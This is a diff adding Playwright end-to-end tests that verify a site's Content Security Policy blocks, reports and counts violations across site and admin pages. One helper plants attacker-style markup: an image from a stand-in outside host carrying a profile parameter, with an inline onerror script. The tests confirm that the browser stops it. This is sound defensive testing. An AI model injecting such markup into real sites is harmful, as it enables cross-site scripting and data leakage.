@@ -1,0 +1,100 @@
+import type { Page } from '@playwright/test';
+import { expect, type Operations, signIn, test } from '../fixtures/operations';
+import { settled } from '../fixtures/settled';
+import { siteLayouts } from '../fixtures/site-pages';
+
+test.describe.configure({ timeout: 120_000 });
+
+/** Everything that the browser stopped on these pages, as it tells the page itself. */
+const stopped = async (page: Page): Promise<string[]> => {
+  const told: string[] = [];
+  await page.exposeFunction('tellStopped', (text: string) => void told.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
+      (window as unknown as { tellStopped: (text: string) => void }).tellStopped(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sourceFile}`);
+    });
+  });
+  return told;
+};
+
+/** What the site server has counted, by directive and class. */
+const counted = async ({ stack }: Operations): Promise<Record<string, number>> => {
+  const text = await (await fetch(stack.addresses.metrics.site!)).text();
+  const lines = text.matchAll(/^site_csp_violations_total\{directive="([\w-]+)",blocked="([\w-]+)".*\} (\d+)$/gm);
+  return Object.fromEntries([...lines].map(([, directive, blocked, count]) => [`${directive} ${blocked}`, Number(count)]));
+};
+
+const moreThan = (before: Record<string, number>, now: Record<string, number>): Record<string, number> =>
+  Object.fromEntries(Object.entries(now).map(([key, count]) => [key, count - (before[key] ?? 0)] as const).filter(([, more]) => more > 0));
+
+/**
+ * The browser of the tests queues reports for `report-to` and never sends them: without it, it reports as older browsers do, to
+ * `report-uri`. The rest of the policy stays as the site sends it.
+ */
+const reportAtOnce = async (page: Page): Promise<void> => {
+  await page.route('**/*', async (route) => {
+    if (route.request().resourceType() !== 'document') return route.fallback();
+    const response = await route.fetch();
+    const policy = response.headers()['content-security-policy'] ?? '';
+    expect(policy).toContain('report-to csp; report-uri /api/csp-reports');
+    return route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy.replace('report-to csp; ', '') } });
+  });
+};
+
+/** Markup as an attacker would have it written: a picture from elsewhere, and a script in an attribute. */
+const plant = (page: Page): Promise<void> =>
+  page.evaluate(() => {
+    document.body.insertAdjacentHTML('beforeend', '<img alt="" src="https://elsewhere.example/x.png?who=june" onerror="window.isStolen = true">');
+  });
+
+test('no page of the site, nor what is filled in on it, makes the browser report anything; what is planted is stopped, reported and counted', async ({ page, operations, tolerate }) => {
+  tolerate(/Content Security Policy/, /elsewhere\.example/);
+  const [told, before] = [await stopped(page), await counted(operations)];
+  await reportAtOnce(page);
+  for (const path of siteLayouts) {
+    await page.goto(path);
+    await settled(page);
+    // Checking a form is what would try to make code of text.
+    for (const button of await page.getByRole('main').locator('form button[type=submit]:enabled').all()) await button.click({ noWaitAfter: true });
+    await settled(page);
+  }
+  expect(told).toEqual([]);
+
+  await page.goto('/financing?profile=june');
+  await settled(page);
+  await plant(page);
+  // Reports leave in the order of what they are about: with these two there would be the others.
+  await expect.poll(async () => moreThan(before, await counted(operations))).toEqual({ 'script-src-attr inline': 1, 'img-src other-origin': 1 });
+  expect(await page.evaluate(() => 'isStolen' in window)).toBe(false);
+});
+
+test('no page of the console does either', async ({ page, operations }) => {
+  const told = await stopped(page);
+  await signIn(page, operations.admin);
+  for (const path of ['/ops', '/ops/mails', '/ops/releases', '/ops/operators', '/ops/audit']) {
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expect(page.getByText('Loading', { exact: true })).toHaveCount(0);
+  }
+  expect(told).toEqual([]);
+});
+
+test('a batch as newer browsers make it is taken', async ({ page, operations, tolerate }) => {
+  tolerate(/Content Security Policy/, /elsewhere\.example/);
+  await page.goto('/faq');
+  await settled(page);
+  const before = await counted(operations);
+  await page.evaluate(() => {
+    const kept: unknown[] = ((window as unknown as { kept: unknown[] }).kept = []);
+    new ReportingObserver((reports) => kept.push(...(JSON.parse(JSON.stringify(reports)) as unknown[])), { types: ['csp-violation'] }).observe();
+  });
+  await plant(page);
+  await page.waitForFunction(() => (window as unknown as { kept: unknown[] }).kept.length === 2);
+  const status = await page.evaluate(async () => {
+    const { kept } = window as unknown as { kept: object[] };
+    const batch = kept.map((report) => ({ age: 1, user_agent: navigator.userAgent, ...report }));
+    return (await fetch('/api/csp-reports', { method: 'POST', headers: { 'content-type': 'application/reports+json' }, body: JSON.stringify(batch) })).status;
+  });
+  expect(status).toBe(204);
+  expect(moreThan(before, await counted(operations))).toEqual({ 'script-src-attr inline': 1, 'img-src other-origin': 1 });
+});
